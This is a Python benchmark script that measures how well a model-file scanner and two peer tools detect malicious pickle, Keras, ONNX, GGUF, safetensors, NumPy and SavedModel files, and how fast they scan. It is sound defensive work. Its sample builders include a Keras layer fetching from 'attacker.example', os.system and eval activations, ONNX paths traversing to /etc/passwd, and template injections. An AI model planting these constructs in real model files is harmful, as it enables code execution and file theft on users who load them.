"""Bastion's pickle and format scanners against picklescan and modelscan, in one run: detection, false
positives, MB/s.

Samples: the malicious and benign files the test suite builds (tests/scanning/data/pickle_corpus.py and
data/benign/, format_samples.py and the GGUF, ONNX, safetensors, NumPy, Keras and SavedModel tests' builders),
each written under bench/_work/model_scanners_vs_peers/samples/ in a folder of its own with the name such a
file has on a hub. Nothing is downloaded and nothing is loaded with the framework it targets. The pickle
corpus's "caution" samples (content that cannot be examined, e.g. a 7z archive of zeros) are left out:
they are neither malicious nor benign. Malformed safetensors/GGUF/npy files count as malicious: the tests
require them flagged (a loader must not trust them).

Flagged: Bastion = the pickle scanner or the format scanner (it runs both on every file) says `unsafe` or
`suspicious`; picklescan = infected files > 0 (its "dangerous globals"); modelscan = at least one issue,
any severity. A peer that errors on a file without flagging it is counted "not flagged" (shown as err).

Throughput: a benign corpus generated with a fixed seed (a PyTorch-style zip checkpoint assembled without
torch, safetensors, .npz, .npy, a pickle of numpy arrays, a pickle of many small objects), best of
--repeat runs per file, scan time only (each peer runs in one process of its own venv and times its own
scan calls, so interpreter start-up and imports are not counted). A peer's MB/s is over the files it
examined (neither skipped nor errored); Bastion's ratio to it is taken on those same files.

    python bench/model_scanners_vs_peers.py --peers-venv /tmp/peers-venv [--mb 300] [--repeat 2]

modelscan pins rich<15 (Bastion's venv has rich 15), so the peers live in a venv of their own:
`python3 -m venv /tmp/peers-venv && /tmp/peers-venv/bin/pip install picklescan 'modelscan[tensorflow]' 'numpy<2.3'`
(the tensorflow extra brings h5py and tensorflow, which modelscan needs to read .h5 files and SavedModels;
modelscan 0.8.8's .npy scanner calls numpy.lib.format._check_version, gone from NumPy 2.4, hence numpy<2.3).
"""

from __future__ import annotations

import argparse
import io
import json
import pickle
import shutil
import subprocess
import sys
import time
import zipfile
from dataclasses import dataclass
from pathlib import Path

import numpy as np

ROOT = Path(__file__).resolve().parent.parent
WORK = ROOT / "bench" / "_work" / "model_scanners_vs_peers"
sys.path.insert(0, str(ROOT))

from bastion.scanning.results import Verdict  # noqa: E402
from bastion.scanning.scanners import model_formats  # noqa: E402
from bastion.scanning.scanners.pickles import PickleScanner  # noqa: E402
from tests.scanning import format_samples as fs  # noqa: E402
from tests.scanning import test_keras_scanner as ks  # noqa: E402
from tests.scanning import test_savedmodel_scanner as sm  # noqa: E402
from tests.scanning.data import pickle_corpus as pc  # noqa: E402
from tests.scanning.test_formats_gguf import INJECTIONS  # noqa: E402
from tests.scanning.test_formats_onnx import _external, _model  # noqa: E402

FORMATS = ("pickle", "npy/npz", "keras/h5", "gguf", "onnx", "safetensors", "savedmodel")
PEERS = ("picklescan", "modelscan")
FLAGGED = (Verdict.UNSAFE, Verdict.SUSPICIOUS)


@dataclass(frozen=True)
class Sample:
    fmt: str
    label: str
    filename: str
    data: bytes
    malicious: bool


# -- samples ----------------------------------------------------------------------------------------------


def _pickle_filename(family: str, name: str, data: bytes) -> tuple[str, str]:
    """(format row, file name) for a pickle-corpus sample: the name a file of its kind has on a hub."""
    if family == "numpy":
        return "npy/npz", "arrays.npz" if name.startswith("npz") else "array.npy"
    if family == "keras":
        return "keras/h5", "model.keras" if name.startswith("keras") else "model.h5"
    if family == "safetensors":
        return "safetensors", "model.safetensors"
    if family in ("joblib", "compressed"):
        return "pickle", "model.joblib"
    return "pickle", "pytorch_model.bin" if family in ("zip", "tar") or data[:2] == b"PK" else "model.pkl"


def pickle_samples() -> list[Sample]:
    out = []
    for s in pc.corpus():
        if s.verdict == "caution":
            continue
        fmt, filename = _pickle_filename(s.family, s.name, s.data)
        out.append(Sample(fmt, f"{s.family}/{s.name}", filename, s.data, True))
    fmt_of = {".npy": "npy/npz", ".npz": "npy/npz", ".safetensors": "safetensors"}
    for path in sorted((ROOT / "tests" / "scanning" / "data" / "benign").iterdir()):
        if path.suffix in (".md", ".py"):
            continue
        fmt = fmt_of.get(path.suffix, "pickle")
        out.append(Sample(fmt, f"benign/{path.name}", path.name, path.read_bytes(), False))
    return out


def _npy(array: np.ndarray) -> bytes:
    buf = io.BytesIO()
    np.save(buf, array, allow_pickle=array.dtype.hasobject)
    return buf.getvalue()


def _npz(members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buf.getvalue()


def numpy_samples() -> list[Sample]:
    evil, header = fs.object_npy(fs.MALICIOUS_PICKLE), fs.npy_header
    bad = {
        "object-array": evil,
        "bytes-after-data": header({"descr": "<i8", "fortran_order": False, "shape": (2,)}) + bytes(16)
        + fs.MALICIOUS_PICKLE,
        "truncated": header({"descr": "<i8", "fortran_order": False, "shape": (4,)}) + bytes(16),
        "extra-header-key": header({"descr": "<i8", "fortran_order": False, "shape": (2,), "extra": 1}) + bytes(16),
        "code-in-header": b"\x93NUMPY\x01\x00\x10\x00__import__('os')" + bytes(8),
    }
    out = [Sample("npy/npz", f"npy/{k}", "array.npy", v, True) for k, v in bad.items()]
    for compression in (zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED):
        for padding in (0, 200_000):
            members = {"ok.npy": _npy(np.arange(5)), "evil.npy": evil + bytes(padding)}
            out.append(Sample("npy/npz", f"npz/evil-member-c{compression}-pad{padding}", "arrays.npz",
                              _npz(members, compression), True))
    rng = np.random.default_rng(7)
    for i, array in enumerate([np.arange(10), np.zeros((3, 4), np.float32, order="F"), np.array([], np.int8),
                               np.zeros(3, dtype=[("x", "<f4"), ("y", "<i2")]), np.array(["ab", "c"]),
                               np.array([{"a": 1}, "x", None], dtype=object)]):
        out.append(Sample("npy/npz", f"npy/benign-{i}-{array.dtype}", "array.npy", _npy(array), False))
    for name, save in (("savez", np.savez), ("savez_compressed", np.savez_compressed)):
        buf = io.BytesIO()
        save(buf, w=rng.standard_normal((64, 64)), b=np.arange(3))
        out.append(Sample("npy/npz", f"npz/benign-{name}", "arrays.npz", buf.getvalue(), False))
    return out


def keras_samples() -> list[Sample]:
    obj, dense, seq, archive = ks.obj, ks.dense, ks.sequential, ks.keras_archive
    lam = obj("keras.layers", "Lambda", {"name": "evil", "function": obj(
        "builtins", "__lambda__", {"code": ks.LAMBDA_CODE, "defaults": None, "closure": None}), "arguments": {}})
    custom = obj("my_pkg.layers", "Backdoor", {"name": "b"}, "my_pkg>Backdoor")
    gadget_cfg = seq(dense("d", 4))
    gadget_cfg["config"]["layers"].insert(0, obj("keras.config", "function", "enable_unsafe_deserialization",
                                                 "function"))
    load_model = obj("keras.layers", "Lambda", {"name": "unsafe_deserialization", "function": obj(
        "keras.models", "function", "load_model", "function"), "arguments": {"safe_mode": False}})
    get_file = obj("keras.layers", "Lambda", {"name": "fetch", "function": obj(
        "keras.utils", "function", "get_file", "function"), "arguments": {"origin": "https://attacker.example/x"}})
    bad = {"lambda-bytecode": archive(seq(dense("d", 4), lam)), "custom-object": archive(seq(dense("d", 4), custom)),
           "CVE-2025-1550-gadget": archive(gadget_cfg), "CVE-2025-9906-load_model": archive(seq(load_model)),
           "CVE-2025-8747-get_file": archive(seq(get_file))}
    out = [Sample("keras/h5", f"keras/{k}", "model.keras", v, True) for k, v in bad.items()]
    for module, name in (("os", "system"), ("builtins", "eval"), ("subprocess", "Popen")):
        layer = dense("d", 4)
        layer["config"]["activation"] = obj(module, "function", name, "function")
        out.append(Sample("keras/h5", f"keras/activation-{module}.{name}", "model.keras", archive(seq(layer)), True))
    out.append(Sample("keras/h5", "h5/legacy-lambda", "model.h5", ks.legacy_h5(ks.LEGACY_LAMBDA), True))
    benign = archive(seq(dense("d1", 8), dense("d2", 4)))
    out += [Sample("keras/h5", "keras/benign-dense", "model.keras", benign, False),
            Sample("keras/h5", "h5/benign-legacy", "model.h5", ks.legacy_h5(ks.LEGACY_BENIGN), False),
            Sample("keras/h5", "h5/benign-legacy-userblock", "model.h5", ks.legacy_h5(ks.LEGACY_BENIGN, userblock=512),
                   False),
            Sample("keras/h5", "h5/benign-weights-only", "model.weights.h5", ks.weights_h5(), False)]
    return out


def gguf_samples(tmp: Path) -> list[Sample]:
    def build(**kwargs) -> bytes:
        path = fs.gguf_file(tmp / "t.gguf", **kwargs)
        return path.read_bytes()

    out = [Sample("gguf", f"gguf/injection-{i}", "model.gguf", build(template=t), True)
           for i, (t, _) in enumerate(INJECTIONS)]
    out.append(Sample("gguf", "gguf/named-template-injection", "model.gguf",
                      build(template=fs.BENIGN_TEMPLATE, named={"tool_use": "{{ x.__class__ }}"}), True))
    templates = (("chatml", fs.BENIGN_TEMPLATE), ("llama", fs.LLAMA_STYLE_TEMPLATE), ("qwen", fs.QWEN_STYLE_TEMPLATE))
    for name, t in templates:
        out.append(Sample("gguf", f"gguf/benign-{name}", "model.gguf", build(template=t), False))
    out.append(Sample("gguf", "gguf/benign-big-endian", "model.gguf", build(big_endian=True), False))
    return out


def onnx_samples() -> list[Sample]:
    from onnx import helper, numpy_helper

    def add(initializer) -> bytes:
        return _model([helper.make_node("Add", ["x", "w"], ["y"])], [initializer]).SerializeToString()

    out = [Sample("onnx", f"onnx/external-{loc}", "model.onnx", add(_external("w", loc)), True)
           for loc in ("../../../etc/passwd", "data/../../secret", "/etc/passwd", "C:\\Windows\\win.ini",
                       "\\\\server\\share\\w.bin", "..\\..\\w.bin", "file:///etc/passwd")]
    custom = _model([helper.make_node("Backdoor", ["x"], ["y"], domain="com.attacker.ops")],
                    opsets=(("", 17), ("com.attacker.ops", 1)))
    out.append(Sample("onnx", "onnx/custom-domain", "model.onnx", custom.SerializeToString(), True))
    out.append(Sample("onnx", "onnx/benign-plain", "model.onnx",
                      add(numpy_helper.from_array(np.ones(2, np.float32), "w")), False))
    out += [Sample("onnx", f"onnx/benign-external-{loc}", "model.onnx", add(_external("w", loc)), False)
            for loc in ("weights.bin", "data/w.bin", "./w.bin")]
    return out


def safetensors_samples(tmp: Path) -> list[Sample]:
    import safetensors.numpy

    f32 = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
    bad: dict[str, tuple] = {
        "header-size-huge": (b"{}", b"", 1 << 62), "header-not-json": (b'{"a": ', b"", None),
        "duplicate-key": (b'{"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}, "a": '
                          b'{"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}', bytes(8), None),
        "unknown-dtype": ({"w": {"dtype": "F128", "shape": [2], "data_offsets": [0, 32]}}, bytes(32), None),
        "overlap": ({"a": f32, "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}}, bytes(12), None),
        "pickle-after-tensors": ({"a": f32}, bytes(8) + fs.MALICIOUS_PICKLE, None),
        "metadata-not-strings": ({"a": f32, "__metadata__": {"k": 1}}, bytes(8), None),
    }
    out = []
    for name, (header, data, length) in bad.items():
        path = fs.safetensors_file(tmp / "m.safetensors", header, data, length)
        out.append(Sample("safetensors", f"safetensors/{name}", "model.safetensors", path.read_bytes(), True))
    out.append(Sample("safetensors", "safetensors/pickle-named-safetensors", "model.safetensors",
                      fs.MALICIOUS_PICKLE, True))
    path = tmp / "ok.safetensors"
    safetensors.numpy.save_file({"w": np.zeros((2, 3), np.float32), "b": np.arange(4, dtype=np.int64)}, str(path),
                                metadata={"format": "pt"})
    out.append(Sample("safetensors", "safetensors/benign-library", "model.safetensors", path.read_bytes(), False))
    out.append(Sample("safetensors", "safetensors/benign-empty", "model.safetensors",
                      fs.safetensors_file(tmp / "e.safetensors", {}).read_bytes(), False))
    return out


def savedmodel_samples() -> list[Sample]:
    ops = ["PyFunc", "PyFuncStateless", "EagerPyFunc", "ReadFile", "WriteFile", "MatchingFiles", "ImmutableConst",
           "DebugIdentityV2", "RpcCall", "DataServiceDatasetV4", "SqlDataset", "DatasetToTFRecord",
           "CreateSummaryFileWriter", "TFRecordDataset", "WholeFileReaderV2"]
    out = [Sample("savedmodel", f"savedmodel/op-{op}", "saved_model.pb",
                  sm.saved_model(sm.serving_graph(serving_nodes=[sm.node("leak", op, "path")])), True) for op in ops]
    lambda_graph = sm.user_object_graph({"class_name": "Sequential", "config": {"layers": [sm.LAMBDA_LAYER]}})
    out.append(Sample("savedmodel", "savedmodel/keras-lambda", "saved_model.pb",
                      sm.saved_model(sm.serving_graph(), lambda_graph), True))
    out.append(Sample("savedmodel", "savedmodel/benign-serving", "saved_model.pb", sm.saved_model(sm.serving_graph()),
                      False))
    tf1 = sm.graph_def([sm.node("x", "Placeholder"), sm.node("save/SaveV2", "SaveV2", "save/Const"),
                        sm.node("save/RestoreV2", "RestoreV2", "save/Const")])
    out.append(Sample("savedmodel", "savedmodel/benign-tf1-saver", "saved_model.pb", sm.saved_model(tf1), False))
    return out


def write_samples(root: Path) -> list[tuple[Sample, Path]]:
    shutil.rmtree(root, ignore_errors=True)
    (root / "_tmp").mkdir(parents=True)
    samples = (pickle_samples() + numpy_samples() + keras_samples() + gguf_samples(root / "_tmp") + onnx_samples()
               + safetensors_samples(root / "_tmp") + savedmodel_samples())
    shutil.rmtree(root / "_tmp")
    out = []
    for i, s in enumerate(samples):
        folder = root / f"{i:03d}"
        folder.mkdir()
        (folder / s.filename).write_bytes(s.data)
        out.append((s, folder / s.filename))
    return out


# -- the throughput corpus ----------------------------------------------------------------------------------


def torch_checkpoint(tensors: dict[str, np.ndarray]) -> bytes:
    """A state dict in PyTorch's zip format (archive/data.pkl with _rebuild_tensor_v2 and persistent ids,
    archive/data/<key> raw storages), assembled opcode by opcode: writing it needs no torch."""
    body = pc.proto(2) + pc.glob("collections", "OrderedDict") + b")R("
    storages = {}
    for key, (name, array) in enumerate(tensors.items()):
        shape = array.shape
        strides = [int(np.prod(shape[i + 1:])) for i in range(len(shape))]
        ints = b"".join(b"J" + int(n).to_bytes(4, "little", signed=True) for n in shape)
        strd = b"".join(b"J" + int(n).to_bytes(4, "little", signed=True) for n in strides)
        pid = b"(" + pc.uni("storage") + pc.glob("torch", "FloatStorage") + pc.uni(str(key)) + pc.uni("cpu") \
            + b"J" + int(array.size).to_bytes(4, "little", signed=True) + b"tQ"
        body += pc.uni(name) + pc.glob("torch._utils", "_rebuild_tensor_v2") + b"(" + pid + b"K\x00(" + ints \
            + b"t(" + strd + b"t\x89" + pc.glob("collections", "OrderedDict") + b")RtR"
        storages[f"archive/data/{key}"] = array.astype("<f4").tobytes()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("archive/data.pkl", body + b"u.")
        zf.writestr("archive/byteorder", b"little")
        for name, data in storages.items():
            zf.writestr(name, data)
        zf.writestr("archive/version", b"3\n")
    return buf.getvalue()


def throughput_corpus(mb: int) -> list[tuple[str, Path]]:
    """(format row, path) of the benign files timed; regenerated when --mb changes."""
    import safetensors.numpy

    root = WORK / "throughput"
    stamp = root / "stamp.json"
    plan = [("pickle", "pytorch_model.bin", 0.35), ("safetensors", "model.safetensors", 0.25),
            ("npy/npz", "arrays.npz", 0.15), ("npy/npz", "embeddings.npy", 0.1), ("pickle", "arrays.pkl", 0.1),
            ("pickle", "records.pkl", 0.05)]
    files = [(fmt, root / name.replace(".", "_") / name) for fmt, name, _ in plan]  # a folder each, as for the samples
    if stamp.exists() and json.loads(stamp.read_text()) == {"mb": mb} and all(p.exists() for _, p in files):
        return files
    shutil.rmtree(root, ignore_errors=True)
    for _, path in files:
        path.parent.mkdir(parents=True)
    at = {path.name: path for _, path in files}
    rng = np.random.default_rng(0)

    def layers(name: str, width: int = 512) -> dict[str, np.ndarray]:
        count = max(1, int(mb * 1e6 * shares[name]) // (width * width * 4))
        return {f"layers.{i}.weight": rng.standard_normal((width, width), dtype=np.float32) for i in range(count)}

    shares = {name: share for _, name, share in plan}
    at["pytorch_model.bin"].write_bytes(torch_checkpoint(layers("pytorch_model.bin")))
    safetensors.numpy.save_file(layers("model.safetensors"), str(at["model.safetensors"]), metadata={"format": "pt"})
    np.savez(at["arrays.npz"], **layers("arrays.npz"))
    np.save(at["embeddings.npy"], rng.standard_normal((int(mb * 1e6 * shares["embeddings.npy"]) // 1024, 256),
                                                      dtype=np.float32))
    at["arrays.pkl"].write_bytes(pickle.dumps(layers("arrays.pkl"), protocol=4))
    n = int(mb * 1e6 * shares["records.pkl"]) // 70
    records = [{"id": i, "name": f"sample-{i}", "score": float(s), "tags": ["a", "b"][: i % 3]}
               for i, s in enumerate(rng.random(n))]
    at["records.pkl"].write_bytes(pickle.dumps(records, protocol=4))
    stamp.write_text(json.dumps({"mb": mb}))
    return files


# -- running the scanners ---------------------------------------------------------------------------------

# Runs in the peers' venv: reads {"peer", "paths", "repeat"} on stdin, prints one JSON list of
# {"flagged", "error", "examined", "seconds"} (best of `repeat` scan calls, timed around the call only).
# Each path is the folder holding one file, scanned the way each CLI scans a model folder (`-p DIR`):
# picklescan then picks files by extension (a .safetensors or .gguf is skipped, not misread as a pickle).
PEER_DRIVER = r'''
import json, logging, sys, time
req = json.load(sys.stdin)
logging.disable(logging.CRITICAL)
if req["peer"] == "picklescan":
    from picklescan.scanner import scan_directory_path
    def scan(path):
        r = scan_directory_path(path)
        return r.infected_files > 0, bool(r.scan_err), r.scanned_files > 0 and not r.scan_err
else:
    from modelscan.modelscan import ModelScan
    from modelscan.settings import DEFAULT_SETTINGS
    ms = ModelScan(settings=DEFAULT_SETTINGS)
    def scan(path):
        ms.scan(path)
        return bool(ms.issues.all_issues), bool(ms.errors), bool(ms.scanned) and not ms.errors
out = []
for path in req["paths"]:
    best, res = float("inf"), None
    for _ in range(req["repeat"]):
        t0 = time.perf_counter()
        try:
            res = scan(path)
        except Exception as exc:
            res = (False, True, False)
        best = min(best, time.perf_counter() - t0)
    out.append({"flagged": res[0], "error": res[1], "examined": res[2], "seconds": best})
sys.stdout.write("\n@@RESULT@@" + json.dumps(out))
'''


def run_peer(python: Path, peer: str, paths: list[Path], repeat: int, timeout: float) -> list[dict]:
    req = json.dumps({"peer": peer, "paths": [str(p.parent) for p in paths], "repeat": repeat})
    proc = subprocess.run([str(python), "-c", PEER_DRIVER], input=req, capture_output=True, text=True,
                          timeout=timeout, cwd=WORK)
    if proc.returncode != 0 or "@@RESULT@@" not in proc.stdout:
        raise SystemExit(f"{peer} failed (exit {proc.returncode}):\n{proc.stderr[-3000:]}")
    return json.loads(proc.stdout.rsplit("@@RESULT@@", 1)[1])


def run_bastion(paths: list[Path], repeat: int) -> list[dict]:
    pickles = PickleScanner()
    out = []
    for path in paths:
        best = float("inf")
        for _ in range(repeat):
            t0 = time.perf_counter()
            verdicts = (pickles.scan_path(path).verdict, model_formats.scan_path(path).verdict)
            best = min(best, time.perf_counter() - t0)
        out.append({"flagged": any(v in FLAGGED for v in verdicts), "error": Verdict.ERROR in verdicts,
                    "examined": True, "seconds": best, "verdicts": [v.value for v in verdicts]})
    return out


# -- report ---------------------------------------------------------------------------------------------


def _cell(results: list[dict]) -> str:
    flagged = sum(r["flagged"] for r in results)
    errors = sum(r["error"] and not r["flagged"] for r in results)
    return f"{flagged}/{len(results)}" + (f" ({errors} err)" if errors else "")


def report_detection(samples: list[tuple[Sample, Path]], results: dict[str, list[dict]]) -> None:
    names = ("bastion", *PEERS)
    print("== Detection (malicious flagged / malicious) and false positives (benign flagged / benign) ==")
    print(f"{'format':12s} | " + " ".join(f"{n:>16s}" for n in names) + " | "
          + " ".join(f"{n + ' FP':>16s}" for n in names))
    for fmt in (*FORMATS, "ALL"):
        idx = [i for i, (s, _) in enumerate(samples) if fmt in ("ALL", s.fmt)]
        bad = [i for i in idx if samples[i][0].malicious]
        good = [i for i in idx if not samples[i][0].malicious]
        print(f"{fmt:12s} | " + " ".join(f"{_cell([results[n][i] for i in bad]):>16s}" for n in names) + " | "
              + " ".join(f"{_cell([results[n][i] for i in good]):>16s}" for n in names))
    for i, (s, _) in enumerate(samples):
        r = results["bastion"][i]
        if r["flagged"] != s.malicious:
            print(f"BASTION {'MISSED' if s.malicious else 'FALSE POSITIVE'} {s.label}: {r['verdicts']}")
        elif not s.malicious and r["verdicts"] != ["safe", "safe"]:
            print(f"bastion benign not flagged but not safe either: {s.label}: {r['verdicts']}")


def report_throughput(files: list[tuple[str, Path]], results: dict[str, list[dict]]) -> None:
    names = ("bastion", *PEERS)
    sizes = [p.stat().st_size for _, p in files]
    print(f"\n== Throughput, MB/s (benign corpus, {sum(sizes) / 1e6:.0f} MB; '-' = not examined: skipped or error) ==")
    print(f"{'file':22s} {'format':12s} {'MB':>8s} " + " ".join(f"{n:>11s}" for n in names))
    for i, (fmt, path) in enumerate(files):
        cells = [f"{sizes[i] / results[n][i]['seconds'] / 1e6:11.1f}" if results[n][i]["examined"] else f"{'-':>11s}"
                 for n in names]
        print(f"{path.name:22s} {fmt:12s} {sizes[i] / 1e6:8.1f} " + " ".join(cells))
    for i, (_, path) in enumerate(files):
        for n in names:
            r = results[n][i]
            if r["flagged"] or r.get("verdicts", ["safe", "safe"]) != ["safe", "safe"]:
                print(f"NOTE {n} on benign {path.name}: flagged={r['flagged']} {r.get('verdicts', '')}")
    best_peer, best_rate, ratio = None, 0.0, None
    bastion_all = sum(sizes) / sum(r["seconds"] for r in results["bastion"]) / 1e6
    print(f"bastion over all {sum(sizes) / 1e6:.0f} MB: {bastion_all:.1f} MB/s")
    for peer in PEERS:
        idx = [i for i in range(len(files)) if results[peer][i]["examined"]]
        if not idx:
            print(f"{peer}: examined none of the throughput files")
            continue
        size = sum(sizes[i] for i in idx)
        rate = size / sum(results[peer][i]["seconds"] for i in idx) / 1e6
        b_rate = size / sum(results["bastion"][i]["seconds"] for i in idx) / 1e6
        print(f"{peer} on the {len(idx)} files it examined ({size / 1e6:.0f} MB): {rate:.1f} MB/s; bastion on the "
              f"same files {b_rate:.1f} MB/s = {b_rate / rate:.2f}x")
        if rate > best_rate:
            best_peer, best_rate, ratio = peer, rate, b_rate / rate
    if best_peer:
        print(f"FASTEST PEER: {best_peer} ({best_rate:.1f} MB/s); bastion/fastest = {ratio:.2f}x (goal >= 2x)")


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--peers-venv", type=Path, required=True, help="venv with picklescan and modelscan")
    parser.add_argument("--mb", type=int, default=300, help="MB of benign files for the throughput corpus")
    parser.add_argument("--repeat", type=int, default=2, help="runs per file; the best is kept")
    parser.add_argument("--timeout", type=float, default=3600, help="seconds each peer process may take")
    args = parser.parse_args()
    python = args.peers_venv / "bin" / "python"
    if not python.exists():
        parser.error(f"no {python}: create the venv first (see the docstring)")

    samples = write_samples(WORK / "samples")
    paths = [p for _, p in samples]
    results = {"bastion": run_bastion(paths, 1)}
    for peer in PEERS:
        results[peer] = run_peer(python, peer, paths, 1, args.timeout)
    report_detection(samples, results)

    files = throughput_corpus(args.mb)
    tpaths = [p for _, p in files]
    for path in tpaths:  # into the page cache before anyone is timed
        with path.open("rb") as fh:
            while fh.read(1 << 24):
                pass
    tput = {"bastion": run_bastion(tpaths, args.repeat)}
    for peer in PEERS:
        tput[peer] = run_peer(python, peer, tpaths, args.repeat, args.timeout)
    report_throughput(files, tput)
    return 0


if __name__ == "__main__":
    sys.exit(main())
